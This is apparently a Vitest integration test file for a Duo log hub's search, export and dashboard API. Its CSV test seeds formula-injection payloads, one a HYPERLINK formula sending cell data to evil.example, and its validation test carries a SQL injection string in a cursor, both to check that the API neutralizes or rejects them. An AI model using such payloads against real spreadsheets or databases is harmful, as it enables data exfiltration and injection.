import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LOG_CSV_COLUMNS } from '../../src/logs/search/log-csv.js';
import { newId } from '../../src/store/new-id.js';
import { createTempDatabase } from '../helpers/temp-postgres.js';
import { startTestHub, type TestHub } from '../helpers/test-hub.js';
import { expectedDashboard, idsOf, parseCsv, searchAll, type ApiLogItem } from './support/log-api.js';
import { buildLogEvents, insertFixtureIntegration, insertLogEvents, sortNewestFirst, type LogRow } from './support/log-event-fixture.js';

const backends = ['sqlite', ...(process.env.DATABASE_URL ? ['postgres'] : [])] as const;
const DAY = 86_400_000;

describe.each(backends)('log search, export and dashboard over a real port (%s)', (backend) => {
  let t: TestHub;
  let pgDb: Awaited<ReturnType<typeof createTempDatabase>> | undefined;
  let integrationId: string;
  let A: string;
  let B: string;
  let limitedA: string;
  let now: number;
  /** Every stored row, newest first (the search order). */
  let rows: LogRow[];

  const orgRows = (org: string | null) => rows.filter((r) => r.organization_id === org);
  const add = async (extra: LogRow[]) => {
    await insertLogEvents(t.store.db, extra);
    rows = sortNewestFirst([...rows, ...extra]);
  };
  const exportText = async (query: string, token?: string) => {
    const res = await t.api('GET', `/api/logs/export?${query}`, { token });
    expect(res.status, res.text).toBe(200);
    return res;
  };
  const jsonl = (text: string) => text.split('\n').filter(Boolean).map((line) => JSON.parse(line) as ApiLogItem);

  beforeAll(async () => {
    if (backend === 'postgres') pgDb = await createTempDatabase(process.env.DATABASE_URL!);
    t = await startTestHub(pgDb ? { databaseUrl: pgDb.url } : {});
    integrationId = await insertFixtureIntegration(t.store.db);
    A = (await t.api('POST', '/api/organizations', { body: { name: 'Alpha Logs Org' } })).body.id;
    B = (await t.api('POST', '/api/organizations', { body: { name: 'Bravo Logs Org' } })).body.id;
    limitedA = (await t.api('POST', '/api/tokens', { body: { name: 'logs reader A', scopes: ['read'], organization_ids: [A] } })).body.token;
    now = Date.now();
    rows = [];
    await add(
      buildLogEvents({
        integrationId,
        now,
        orgs: [
          { id: A, accountId: 'DAALPHA0000000000001', userPrefix: 'alpha' },
          { id: B, accountId: 'DABRAVO0000000000002', userPrefix: 'bravo' },
          // An account no organization is mapped to: fleet-wide only.
          { id: null, accountId: 'DAGHOST0000000000003', userPrefix: 'ghost' },
        ],
      }),
    );
  }, 60_000);

  afterAll(async () => {
    await t?.close();
    await pgDb?.drop();
  });

  it('filters: each answer is exactly the stored rows that match, newest first', async () => {
    const at = (d: number) => now - d * DAY;
    const iso = (ms: number) => new Date(ms).toISOString();
    const cases: Array<[string, (r: LogRow) => boolean]> = [
      ['', () => true],
      [`organization_id=${A}`, (r) => r.organization_id === A],
      [`organization_id=${A}&organization_id=${B}`, (r) => r.organization_id === A || r.organization_id === B],
      ['duo_account_id=DAGHOST0000000000003', (r) => r.duo_account_id === 'DAGHOST0000000000003'],
      ['log_type=telephony', (r) => r.log_type === 'telephony'],
      ['log_type=authentication&log_type=administrator', (r) => r.log_type === 'authentication' || r.log_type === 'administrator'],
      ['log_type=trust_monitor', () => false],
      ['username=alpha-alice', (r) => r.username === 'alpha-alice'],
      ['application=Microsoft%20365', (r) => r.application === 'Microsoft 365'],
      ['factor=duo_push', (r) => r.factor === 'duo_push'],
      ['result=denied', (r) => r.result === 'denied'],
      ['reason=user_marked_fraud', (r) => r.reason === 'user_marked_fraud'],
      ['event_type=sms', (r) => r.event_type === 'sms'],
      [`since=${encodeURIComponent(iso(at(3)))}`, (r) => r.occurred_at >= at(3)],
      [`until=${at(5)}`, (r) => r.occurred_at < at(5)],
      [`since=${at(4)}&until=${encodeURIComponent(iso(at(2)))}`, (r) => r.occurred_at >= at(4) && r.occurred_at < at(2)],
      ['q=ALICE', (r) => Boolean(r.username?.includes('alice'))],
      ['q=update', (r) => r.event_type === 'user_update'],
      ['q=%25', () => false],
      // `_` is taken literally (as a LIKE wildcard it would match every row with a username).
      ['q=_', (r) => Boolean(r.username?.includes('_') || r.event_type?.includes('_'))],
      [`organization_id=${B}&result=fraud&factor=duo_push`, (r) => r.organization_id === B && r.result === 'fraud' && r.factor === 'duo_push'],
      [`organization_id=${A}&q=bob&log_type=authentication&since=${at(6)}`, (r) => r.organization_id === A && r.username === 'alpha-bob' && r.log_type === 'authentication' && r.occurred_at >= at(6)],
    ];
    for (const [query, match] of cases) {
      const expected = idsOf(rows.filter(match));
      const got = await searchAll(t, query);
      expect(idsOf(got.items), query).toEqual(expected);
    }
    // The fixture is rich enough for the filters above to mean something.
    expect(rows.filter((r) => r.result === 'denied').length).toBeGreaterThan(10);
    expect(rows.filter((r) => r.result === 'fraud').length).toBeGreaterThan(3);
  });

  it('answers items with the raw row parsed as `event`, and a default page of 100', async () => {
    const res = await t.api('GET', '/api/logs');
    expect(res.status).toBe(200);
    expect(res.body.items).toHaveLength(100);
    expect(res.body.next_cursor).toMatch(/^l1\./);
    const first = res.body.items[0];
    const stored = rows[0]!;
    expect(first).toEqual({
      id: stored.id,
      occurred_at: new Date(stored.occurred_at).toISOString(),
      log_type: stored.log_type,
      organization_id: stored.organization_id,
      duo_account_id: stored.duo_account_id,
      integration_id: integrationId,
      event_key: stored.event_key,
      username: stored.username,
      application: stored.application,
      factor: stored.factor,
      result: stored.result,
      reason: stored.reason,
      event_type: stored.event_type,
      ip: stored.ip,
      ingested_at: stored.ingested_at,
      event: JSON.parse(stored.raw),
    });
    const last = await t.api('GET', `/api/logs?limit=1000`);
    expect(last.body.items).toHaveLength(rows.length);
    expect(last.body.next_cursor).toBeNull();
  });

  it('pages by cursor without duplicates or gaps, for every page size', async () => {
    for (const limit of [1, 7, 50, 293]) {
      const { items, pages } = await searchAll(t, '', { limit });
      expect(idsOf(items)).toEqual(idsOf(rows));
      expect(pages).toBe(Math.max(1, Math.ceil(rows.length / limit)));
    }
  });

  it('pages through rows of the same millisecond in id order', async () => {
    const tied = now - 10 * DAY;
    const org = { id: A, accountId: 'DAALPHA0000000000001', userPrefix: 'tie' };
    const same = buildLogEvents({ integrationId, now: tied + DAY, orgs: [org], days: 1, perDay: 9, seed: 5 }).map((r) => ({ ...r, occurred_at: tied, event_key: `tie-${r.event_key}` }));
    await add(same);
    const expected = idsOf(rows.filter((r) => r.organization_id === A && r.occurred_at <= tied));
    expect(expected.length).toBeGreaterThanOrEqual(11);
    for (const limit of [1, 2, 4]) {
      const { items } = await searchAll(t, `organization_id=${A}&until=${tied + 1}`, { limit });
      expect(idsOf(items)).toEqual(expected);
    }
  });

  it('stays stable while newer rows arrive between pages', async () => {
    const before = idsOf(orgRows(A));
    const seen: string[] = [];
    let cursor: string | null = null;
    let round = 0;
    do {
      const res = await t.api('GET', `/api/logs?organization_id=${A}&limit=25${cursor ? `&cursor=${cursor}` : ''}`);
      expect(res.status).toBe(200);
      seen.push(...idsOf(res.body.items));
      cursor = res.body.next_cursor;
      // Between every two pages a sync stores newer entries (a fresh minute each time).
      const fresh = buildLogEvents({ integrationId, now: Date.now() + (++round + 1) * 60_000, orgs: [{ id: A, accountId: 'DAALPHA0000000000001', userPrefix: `new${round}` }], days: 1, perDay: 3, seed: round });
      await add(fresh.map((r) => ({ ...r, occurred_at: now + round * 60_000 + (r.occurred_at % 1000), event_key: `fresh-${round}-${r.event_key}` })));
    } while (cursor);
    expect(seen).toEqual(before);
    // A new search starts with them.
    const again = await searchAll(t, `organization_id=${A}`);
    expect(idsOf(again.items)).toEqual(idsOf(orgRows(A)));
    expect(again.items.length).toBeGreaterThan(before.length);
  });

  it('exports exactly what the search returns, as JSON lines and as CSV', async () => {
    for (const query of ['', `organization_id=${B}&log_type=authentication`, 'result=denied&q=carol', 'username=nobody']) {
      const searched = (await searchAll(t, query)).items;
      const lines = await exportText(`format=jsonl&${query}`);
      expect(lines.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
      expect(lines.headers.get('content-disposition')).toMatch(/^attachment; filename="duohub-logs-\d{4}-\d{2}-\d{2}\.jsonl"$/);
      expect(jsonl(lines.text)).toEqual(searched);

      const csv = await exportText(`format=csv&${query}`);
      expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      const [header, ...cells] = parseCsv(csv.text);
      expect(header).toEqual([...LOG_CSV_COLUMNS]);
      expect(cells.map((c) => c[0])).toEqual(idsOf(searched));
      const byId = new Map(rows.map((r) => [r.id, r]));
      for (const c of cells) {
        const stored = byId.get(c[0]!)!;
        const record = Object.fromEntries(LOG_CSV_COLUMNS.map((name, i) => [name, c[i]]));
        expect(record).toEqual({
          id: stored.id,
          occurred_at: new Date(stored.occurred_at).toISOString(),
          log_type: stored.log_type,
          organization_id: stored.organization_id ?? '',
          duo_account_id: stored.duo_account_id,
          integration_id: stored.integration_id,
          username: stored.username ?? '',
          application: stored.application ?? '',
          factor: stored.factor ?? '',
          result: stored.result ?? '',
          reason: stored.reason ?? '',
          event_type: stored.event_type ?? '',
          ip: stored.ip ?? '',
          raw: stored.raw,
        });
      }
    }
    // Without format: JSON lines.
    const plain = await exportText('log_type=telephony');
    expect(jsonl(plain.text)).toEqual((await searchAll(t, 'log_type=telephony')).items);
  });

  it('guards CSV cells against formula injection and keeps the values readable', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+SUM(1,2)', '-2+3', '@cmd', '\tx=1'];
    const base = buildLogEvents({ integrationId, now: now - 20 * DAY, orgs: [{ id: B, accountId: 'DABRAVO0000000000002', userPrefix: 'evil' }], days: 1, perDay: hostile.length, seed: 9 })
      .filter((r) => r.log_type === 'authentication')
      .map((r, i) => ({ ...r, username: hostile[i]!, application: hostile[(i + 1) % hostile.length]!, reason: '=1+1', event_key: `evil-${i}` }));
    await add(base);
    const csv = await exportText(`format=csv&until=${now - 20 * DAY}&since=${now - 22 * DAY}`);
    const [, ...cells] = parseCsv(csv.text);
    expect(cells).toHaveLength(hostile.length);
    const col = (name: (typeof LOG_CSV_COLUMNS)[number]) => LOG_CSV_COLUMNS.indexOf(name);
    for (const c of cells) {
      for (const name of ['username', 'application', 'reason'] as const) {
        const cell = c[col(name)]!;
        expect(cell.startsWith("'"), `${name} ${cell}`).toBe(true);
        expect(hostile.includes(cell.slice(1)) || cell === "'=1+1").toBe(true);
      }
      // No cell of the line begins with a formula character.
      for (const cell of c) expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
    }
    // The search and JSON lines keep the values as Duo gave them.
    const found = await searchAll(t, `username=${encodeURIComponent(hostile[0]!)}`);
    expect(found.items.map((i) => i.username)).toEqual([hostile[0]]);
  });

  it('dashboard: denied and fraud counts, factors, results per day and top failing users match the stored rows', async () => {
    const since = now - 8 * DAY;
    const check = async (query: string, subset: LogRow[], offsetMinutes = 0, token?: string) => {
      const res = await t.api('GET', `/api/logs/dashboard?since=${since}${query}${offsetMinutes ? `&utc_offset_minutes=${offsetMinutes}` : ''}`, { token });
      expect(res.status, res.text).toBe(200);
      const expected = expectedDashboard(subset, { since, offsetMinutes });
      const body = res.body;
      expect(body.totals).toEqual(expected.totals);
      expect([...body.factors].sort((a: any, b: any) => (a.factor < b.factor ? -1 : 1))).toEqual(expected.factors);
      for (let i = 1; i < body.factors.length; i++) expect(body.factors[i].count).toBeLessThanOrEqual(body.factors[i - 1].count);
      expect(body.results_by_day).toEqual(expected.results_by_day);
      expect(body.top_failing_users).toEqual(expected.top_failing_users);
      expect(body.scope.since).toBe(new Date(since).toISOString());
      expect(body.scope.utc_offset_minutes).toBe(offsetMinutes);
      return body;
    };
    const a = await check(`&organization_id=${A}`, orgRows(A));
    expect(a.scope.organization_ids).toEqual([A]);
    expect(a.totals.denied).toBeGreaterThan(0);
    expect(a.top_failing_users.length).toBeGreaterThan(0);
    expect(a.results_by_day.length).toBeGreaterThanOrEqual(7);
    for (const u of a.top_failing_users) expect(u.username).toMatch(/^(alpha|tie|new\d+)-/);
    const fleet = await check('', rows);
    expect(fleet.scope.organization_ids).toBeNull();
    expect(fleet.totals.authentications).toBeGreaterThan(a.totals.authentications);
    // Days cut in the viewer's zone move entries between days, never lose them.
    const east = await check(`&organization_id=${B}`, orgRows(B), 330);
    const west = await check(`&organization_id=${B}`, orgRows(B), -480);
    const sum = (b: any) => b.results_by_day.reduce((n: number, d: any) => n + d.total, 0);
    expect(sum(east)).toBe(sum(west));
    // A range with nothing in it.
    const empty = await t.api('GET', `/api/logs/dashboard?since=${now + DAY}`);
    expect(empty.body).toMatchObject({ totals: { authentications: 0, success: 0, denied: 0, fraud: 0 }, factors: [], results_by_day: [], top_failing_users: [] });
  });

  it('a token limited to an organization sees only its rows, through search, export and dashboard', async () => {
    const own = orgRows(A);
    const asA = async (query: string) => (await searchAll(t, query, { token: limitedA })).items;
    expect(idsOf(await asA(''))).toEqual(idsOf(own));
    expect(idsOf(await asA(`organization_id=${A}`))).toEqual(idsOf(own));
    expect(await asA(`organization_id=${B}`)).toEqual([]);
    expect(idsOf(await asA(`organization_id=${A}&organization_id=${B}`))).toEqual(idsOf(own));
    // Unmapped accounts belong to no organization's limit.
    expect(await asA('duo_account_id=DAGHOST0000000000003')).toEqual([]);
    expect(await asA('q=bravo')).toEqual([]);

    for (const format of ['jsonl', 'csv']) {
      for (const query of ['', `organization_id=${B}`, `organization_id=${A}&organization_id=${B}`, 'q=ghost']) {
        const res = await exportText(`format=${format}&${query}`, limitedA);
        expect(res.text).not.toMatch(/bravo|ghost|DABRAVO|DAGHOST/i);
        expect(res.text).not.toContain(B);
        const ids = format === 'jsonl' ? idsOf(jsonl(res.text)) : parseCsv(res.text).slice(1).map((c) => c[0]);
        expect(ids).toEqual(query === 'q=ghost' || query === `organization_id=${B}` ? [] : idsOf(own));
      }
    }

    const dashA = await t.api('GET', `/api/logs/dashboard?since=${now - 30 * DAY}`, { token: limitedA });
    const dashAdminA = await t.api('GET', `/api/logs/dashboard?since=${now - 30 * DAY}&organization_id=${A}`);
    expect(dashA.status).toBe(200);
    expect(dashA.body).toEqual(dashAdminA.body);
    expect(dashA.text).not.toMatch(/bravo|ghost/i);
    const dashB = await t.api('GET', `/api/logs/dashboard?organization_id=${B}`, { token: limitedA });
    expect(dashB.status).toBe(200);
    expect(dashB.body.totals).toEqual({ authentications: 0, success: 0, denied: 0, fraud: 0 });
    expect(dashB.body.scope.organization_ids).toEqual([]);
    expect(dashB.text).not.toContain('bravo');
  });

  it('refuses bad input with a 400 naming the field, never a 500', async () => {
    const b64 = (v: unknown) => `l1.${Buffer.from(JSON.stringify(v)).toString('base64url')}`;
    const cases: Array<[string, string]> = [
      ['/api/logs?limit=0', 'limit'],
      ['/api/logs?limit=1001', 'limit'],
      ['/api/logs?limit=lots', 'limit'],
      ['/api/logs?limit=1.5', 'limit'],
      ['/api/logs?cursor=garbage', 'cursor'],
      [`/api/logs?cursor=${b64([1, "x' or '1'='1"])}`, 'cursor'],
      [`/api/logs?cursor=${newId('lev')}`, 'cursor'],
      ['/api/logs?since=yesterday', 'since'],
      ['/api/logs?since=7d', 'since'],
      ['/api/logs?until=2026-02-30', 'until'],
      ['/api/logs?since=2026-01-02&until=2026-01-01', 'until'],
      ['/api/logs?since=2026-01-01&until=2026-01-01', 'until'],
      ['/api/logs?log_type=auth', 'log_type'],
      ['/api/logs?log_type=authentication&log_type=nope', 'log_type'],
      [`/api/logs?organization_id=${'o'.repeat(101)}`, 'organization_id'],
      ['/api/logs?username=', 'username'],
      [`/api/logs?q=${'q'.repeat(201)}`, 'q'],
      ['/api/logs?username=a&username=b', 'username'],
      ['/api/logs/export?format=xml', 'format'],
      ['/api/logs/export?format=csv&since=soon', 'since'],
      ['/api/logs/export?limit=5&result=denied&result=fraud', 'result'],
      ['/api/logs/dashboard?utc_offset_minutes=900', 'utc_offset_minutes'],
      ['/api/logs/dashboard?utc_offset_minutes=east', 'utc_offset_minutes'],
      ['/api/logs/dashboard?since=2026-01-05&until=2026-01-01', 'until'],
      ['/api/logs/dashboard?organization_id=', 'organization_id'],
    ];
    for (const [path, field] of cases) {
      const res = await t.api('GET', path);
      expect(res.status, `${path}: ${res.text}`).toBe(400);
      expect(res.body.error.code, path).toBe('validation_failed');
      const fields = (res.body.error.details as Array<{ in: string; field: string }>).map((d) => `${d.in}:${d.field}`);
      expect(fields.some((f) => f === `query:${field}` || f.startsWith(`query:${field}.`)), `${path} names ${field}: ${fields}`).toBe(true);
    }
    const unauth = await t.api('GET', '/api/logs', { token: null });
    expect(unauth.status).toBe(401);
  });
});
